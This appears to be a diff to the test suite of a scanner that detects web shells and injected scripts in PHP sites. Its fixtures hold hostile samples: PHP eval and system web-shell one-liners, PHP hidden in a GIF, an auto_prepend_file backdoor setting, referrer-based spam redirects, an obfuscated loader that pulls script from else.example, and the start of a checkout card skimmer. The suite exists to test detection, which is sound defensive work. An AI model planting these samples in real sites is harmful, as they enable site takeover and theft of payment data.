@@ -65,6 +65,7 @@ CLEAN = {
     "callback": b"<?php usort($rows, function ($a, $b) { return strcmp($a['name'], $b['name']); });",
     "decode": b"<?php $json = json_decode(base64_decode($token), true);",
     "remark": b"<?php // eval($_POST['x']);\n# system($_GET['c']);\necho 1;",
+    "typed": b"<?php file_put_contents($_SERVER['argv'][1] . '.php', $_SERVER['argv'][2]);",
     "xml": b"<?xml version='1.0'?><feed>eval($_POST['x'])</feed>",
 }
 
@@ -81,7 +82,9 @@ OTHERS = {
     "sub/.htaccess": b"RewriteCond %{HTTP_REFERER} (google|bing) [NC]\nRewriteRule ^ https://else.example/ [R,L]\n",
     ".user.ini": b"auto_prepend_file = /tmp/.cache.png\n",
     "logo.gif": b"GIF89a\x01\x00 <?php eval($_POST['x']); ?>",
-    "jquery.js": b"document.write(unescape('%3Cscript src=//else.example/x.js%3E'));",
+    "jquery.js": b"document.write(unescape('"
+    + b"".join(b"%%%02x" % one for one in b"<script src=//else.example/x.js>")
+    + b"'));",
     "page.js": b"if (document.referrer.match(/google|bing/)) { window.location = 'https://else.example/'; }",
     "pay.js": (
         b"if (location.href.indexOf('checkout') > 0) { setInterval(function () { var f = document.querySelectorAll("
@@ -100,6 +103,8 @@ HARMLESS = {
     ".htaccess": b"RewriteCond %{REQUEST_FILENAME} !-f\nRewriteRule . /index.php [L]\nAddType font/woff2 .woff2\n",
     ".user.ini": b"; auto_prepend_file = /tmp/x\nmemory_limit = 256M\nauto_prepend_file = none\n",
     "logo.gif": b"GIF89a\x01\x00 <?xpacket begin ?>",
+    "statistics.html": b"<script>document.write(unescape('%3Cscript src=\"/x.js\"%3E%3C/script%3E'));</script>",
+    "guide.md": b"Write `eval` never:\n```php\n<?php eval($_POST['x']);\n```\nand use `$_GET`.\n",
     "app.js": b"fetch('/api').then(r => r.json()).then(rows => document.body.appendChild(render(rows)));",
 }
 
@@ -183,7 +188,7 @@ def test_a_payload_is_found_anywhere_in_a_long_file(tmp_path: Path, place: int) 
     """Only the head was read before: half a megabyte of remarks hid what followed. Seen failing without the windows."""
     line = b"// an ordinary remark of an ordinary file\n"
     text = bytearray(b"<?php\n" + line * ((9 << 20) // len(line)))
-    at = max(6, place - place % len(line))
+    at = 6 + place // len(line) * len(line)
     text[at:at] = b"\neval($_POST['x']);\n"
     path = tmp_path / "long.php"
     path.write_bytes(bytes(text))
@@ -220,7 +225,7 @@ def test_a_folder_is_judged_and_nothing_is_passed_over(tmp_path: Path) -> None:
     """What can't be read is named; links lead nowhere."""
     (tmp_path / "sub").mkdir()
     (tmp_path / "sub" / "bad.php").write_bytes(SENT["plain"])
-    (tmp_path / "good.php").write_bytes(CLEAN["echo"])
+    (tmp_path / "good.php").write_bytes(CLEAN["class"])
     (tmp_path / "link.php").symlink_to(tmp_path / "sub" / "bad.php")
     (tmp_path / b"\xff\x1b[31m.php".decode("utf-8", "surrogateescape")).write_bytes(SENT["plain"])
     found = tree.judge_tree(tmp_path).document()
@@ -251,4 +256,4 @@ def test_bad_input_is_named(tmp_path: Path) -> None:
 def test_the_walk_is_bounded() -> None:
     """Seen failing without the limit of nodes."""
     found = structure.look(b"<?php eval(1);" + b"$a = $b + $c;" * 50_000)
-    assert found.nodes <= structure.NODES + 200
+    assert found.nodes == structure.NODES
